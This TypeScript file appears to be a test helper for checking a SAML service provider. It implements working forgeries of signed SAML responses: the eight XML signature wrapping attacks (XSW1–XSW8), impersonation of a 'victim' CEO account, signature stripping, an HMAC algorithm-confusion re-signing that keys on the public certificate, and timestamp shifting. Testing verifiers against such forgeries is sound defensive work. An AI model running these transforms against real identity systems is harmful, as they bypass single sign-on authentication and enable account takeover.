import { createHmac, randomBytes } from 'node:crypto'

/** What is done to an answer that was valid. */
export type Attack = (xml: string) => string

export const VICTIM = { nameId: 'ceo-1', email: 'ceo@brightwater.example' }

const SIGNATURE = /<(ds:)?Signature[ >][\s\S]*?<\/(ds:)?Signature>/
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/

export const signatureIn = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? ''
export const assertionIn = (xml: string): string => ASSERTION.exec(xml)?.[0] ?? ''
export const withoutSignatures: Attack = (xml) => xml.replace(new RegExp(SIGNATURE, 'g'), '')
/** Another id for the outermost element, so that references go to the original. */
const renamed: Attack = (xml) => xml.replace(/ ID="[^"]*"/, ` ID="_${randomBytes(16).toString('hex')}"`)
/** Says that it is somebody else. */
export const asVictim: Attack = (xml) =>
  xml.replaceAll('maya-1', VICTIM.nameId).replaceAll('maya@brightwater.example', VICTIM.email)
const evil: Attack = (xml) => renamed(asVictim(xml))
const inside = (xml: string, more: string): string => xml.replace(/(<\/[^>]+>)$/, `${more}$1`)
const behindIssuer = (xml: string, more: string): string => xml.replace(/(<saml:Issuer[^>]*>[^<]*<\/saml:Issuer>)/, `$1${more}`) // prettier-ignore
const inObject = (xml: string) => `<Object>${xml}</Object>`
const inAssertionsPlace = (response: string, more: string) => response.replace(ASSERTION, () => more)

/**
 * The eight wrappings of a signature (Somorovsky and others, "On Breaking SAML", 2012): the signed element is moved to
 * where its reference still finds it, and another stands in its place.
 */
export const WRAPPINGS: Readonly<Record<string, Attack>> = {
  'XSW1: the response in its signature, in a forged response': (xml) => {
    const original = withoutSignatures(xml)
    const signature = inside(signatureIn(xml), original)
    return behindIssuer(evil(original), signature)
  },
  'XSW2: the response beside its signature, in a forged response': (xml) => {
    const original = withoutSignatures(xml)
    return behindIssuer(evil(original), original + signatureIn(xml))
  },
  'XSW3: a forged assertion before the signed one': (xml) =>
    inAssertionsPlace(xml, evil(withoutSignatures(assertionIn(xml))) + assertionIn(xml)),
  'XSW4: the signed assertion in a forged one': (xml) =>
    inAssertionsPlace(xml, inside(evil(withoutSignatures(assertionIn(xml))), assertionIn(xml))),
  'XSW5: a forged assertion with the signature, the signed one behind it': (xml) =>
    inAssertionsPlace(
      withoutSignatures(xml),
      behindIssuer(evil(withoutSignatures(assertionIn(xml))), signatureIn(xml)) + withoutSignatures(assertionIn(xml)),
    ),
  'XSW6: a forged assertion with the signature, the signed one in that': (xml) =>
    inAssertionsPlace(
      withoutSignatures(xml),
      behindIssuer(
        evil(withoutSignatures(assertionIn(xml))),
        inside(signatureIn(xml), withoutSignatures(assertionIn(xml))),
      ),
    ),
  'XSW7: a forged assertion in extensions': (xml) =>
    inAssertionsPlace(
      xml,
      `<samlp:Extensions>${evil(withoutSignatures(assertionIn(xml)))}</samlp:Extensions>${assertionIn(xml)}`,
    ),
  'XSW8: a forged assertion with the signature, the signed one in an object of that': (xml) =>
    inAssertionsPlace(
      withoutSignatures(xml),
      behindIssuer(
        evil(withoutSignatures(assertionIn(xml))),
        inside(signatureIn(xml), inObject(withoutSignatures(assertionIn(xml)))),
      ),
    ),
}

/** Signed again by HMAC, with the provider's certificate, which everybody has, as the secret. */
export function byHmac(xml: string, certificate: string): string {
  const signature = signatureIn(xml)
  const info = /<SignedInfo>[\s\S]*<\/SignedInfo>/.exec(signature)?.[0] ?? ''
  const forged = info.replace(/(<SignatureMethod Algorithm=")[^"]*/, '$1http://www.w3.org/2000/09/xmldsig#hmac-sha1')
  const canonical = forged
    .replace('<SignedInfo>', '<SignedInfo xmlns="http://www.w3.org/2000/09/xmldsig#">')
    .replace(/<(\w+)([^<>]*)\/>/g, '<$1$2></$1>')
  const value = createHmac('sha1', certificate).update(canonical).digest('base64')
  const replaced = signature.replace(info, forged).replace(/<SignatureValue>[^<]*/, `<SignatureValue>${value}`)
  return xml.replace(signature, replaced)
}

/** Moves a time of the document. */
export const withTime =
  (name: string, seconds: number): Attack =>
  (xml) =>
    xml.replaceAll(
      new RegExp(` ${name}="[^"]*"`, 'g'),
      ` ${name}="${new Date(Date.now() + seconds * 1000).toISOString()}"`,
    )
